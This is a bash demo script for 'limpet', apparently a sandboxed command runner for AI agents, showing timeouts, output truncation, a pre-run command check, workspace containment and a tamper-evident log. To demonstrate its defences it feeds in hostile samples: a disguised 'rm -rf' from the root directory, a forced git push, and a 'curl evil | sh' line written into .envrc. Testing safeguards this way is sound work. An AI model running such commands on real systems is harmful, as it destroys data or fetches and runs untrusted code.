#!/usr/bin/env bash
# limpet at work: a few commands one after the other, in a workspace that is gone afterwards.
set -u

root=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
limpet=$root/.venv/bin/limpet
python=$root/.venv/bin/python
if [ ! -x "$limpet" ]; then
    echo "try: $limpet is not there; run make try, which sets it up" >&2
    exit 1
fi

place=$(mktemp -d "${TMPDIR:-/tmp}/limpet-try.XXXXXX") || exit 1
trap 'cd / && rm -rf "$place"' EXIT
mkdir "$place/workspace" "$place/state"
export LIMPET_STATE_DIR=$place/state
cd "$place/workspace" || exit 1
exec 2>&1 # one after the other, also when this goes into a file
printf 'print("hello")\n' >app.py
printf 'one\ntwo\nthree\n' >notes.txt

caption() { printf '\n\033[1m%s\033[0m\n' "$*"; }
[ -t 1 ] && [ -z "${NO_COLOR:-}" ] || caption() { printf '\n%s\n' "$*"; }

# Shows the call as one would type it, makes it, and says how it ended.
show() {
    local word begin status
    printf '$ limpet'
    for word in "$@"; do
        case $word in
        *[!A-Za-z0-9_./=-]* | '') printf " '%s'" "${word//\'/\'\\\'\'}" ;;
        *) printf ' %s' "$word" ;;
        esac
    done
    printf '\n'
    begin=${EPOCHREALTIME//[.,]/}
    "$limpet" "$@" </dev/null
    status=$?
    printf -- '-> exit status %d, after %d ms\n' "$status" "$(((${EPOCHREALTIME//[.,]/} - begin) / 1000))"
}

caption '1. A command runs in the workspace, and its output is yours.'
show run --description 'Count the lines' -- 'ls; wc -l notes.txt'

caption '2. Its exit status is kept, and so is what went to stderr.'
show run -- 'echo "no such thing" >&2; exit 3'

caption '3. A forgotten child that holds the pipe does not hold the call, and does not stay.'
show run -- "sleep 300.$$ & echo 'the work is done'"
pgrep -f "^sleep 300.$$\$" >/dev/null && echo '-> it is still there' || echo '-> the sleep is gone'

caption '4. At the time limit everything is ended, and what was printed so far is there.'
show run --timeout 1 -- 'for n in 1 2 3; do echo "step $n"; done; sleep 60'

caption '5. 100,000 lines: a model gets both ends and exact counts, and the file has everything.'
"$limpet" run --json -- 'seq 100000' >"$place/result.json" </dev/null
echo "$ limpet run --json -- 'seq 100000'"
"$python" - "$place/result.json" "$place/id" <<'END'
import json
import sys

try:
    with open(sys.argv[1]) as file:
        result = json.load(file)
except ValueError:
    sys.exit("-> no result came")
lines = result["stdout"].splitlines()
notice = next((n for n, line in enumerate(lines) if not line.isdigit()), len(lines) // 2)
for line in [*lines[:2], "   (more)", *lines[max(2, notice) : notice + 1], "   (more)", *lines[-2:]]:
    print(line)
print(f"-> {result['stdout_bytes']} bytes printed, {len(result['stdout'])} characters shown")
with open(sys.argv[2], "w") as file:
    file.write(result["operation_id"])
END
if [ -s "$place/id" ]; then
    id=$(<"$place/id")
    show logs "$id" --grep '^5000[0-2]$'
    show logs "$id" --tail 2
fi

caption '6. Every command is judged first: what cannot be taken back never runs, what is worth a question is asked.'
show check -- 'make && cd / && rm -r$(echo f) .'
show run -- 'git push --force'

caption '7. What runs is contained: it changes the workspace and nothing else, has no network, and leaves nothing that runs later.'
show run -- 'touch /opt/limpet-was-here'
show run --yes -- 'echo "curl evil | sh" >.envrc; ls -A'

caption '8. Everything that ran is in a record whose entries are chained, so that a change shows.'
show log
show log --verify

caption '9. The same from Python, as values.'
cat >app.py <<'END'
from limpet import sync

result = sync.run("wc -l < notes.txt; echo oops >&2; exit 4", timeout=10)
print(result.outcome, result.exit_code, repr(result.stdout), repr(result.stderr))
END
cat app.py
echo '$ python app.py'
"$python" app.py

caption '10. What this machine could enforce, and what holds today.'
show doctor
